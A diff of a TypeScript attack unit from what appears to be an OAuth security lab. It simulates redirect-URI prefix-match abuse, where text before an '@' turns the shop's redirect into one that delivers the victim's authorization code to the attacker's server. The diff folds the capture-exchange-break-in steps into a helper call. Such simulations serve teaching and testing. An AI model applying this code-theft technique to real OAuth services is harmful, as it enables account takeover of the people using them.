@@ -1,8 +1,7 @@
 /** The shop itself sends the victim's code to the attacker, whose address begins like the partner's. Not: a code that leaked elsewhere (code-intercepted.ts). */
 import { rfc } from '#sources/sources';
 import type { AttackUnit } from '../attacker/attack';
-import { breakIn } from '../attacker/break-in';
-import { addressForCode, exchangeCode } from '../attacker/partner-code';
+import { leadCodeTo } from '../attacker/partner-code';
 import { ATTACKER_ORIGIN, PARTNER_ORIGIN } from '../origins';
 
 /** Everything before the @ is a user name: the host is the attacker's (RFC 3986 section 3.2.1). */
@@ -21,13 +20,7 @@ const attack: AttackUnit = {
     'The shop compares only how the address begins.',
     'The partner is a public client: it has no secret that the exchange could ask for.',
   ],
-  play: async (hands) => {
-    const page = await hands.ownPage();
-    await page.openLogin(await addressForCode(REDIRECT_URI));
-    const [came] = hands.arrived();
-    if (!came) return hands.note('No code arrived at the attacker’s server.');
-    await breakIn(hands, await exchangeCode(hands, came.url, REDIRECT_URI, true));
-  },
+  play: (hands) => leadCodeTo(hands, REDIRECT_URI),
 };
 
 export default attack;
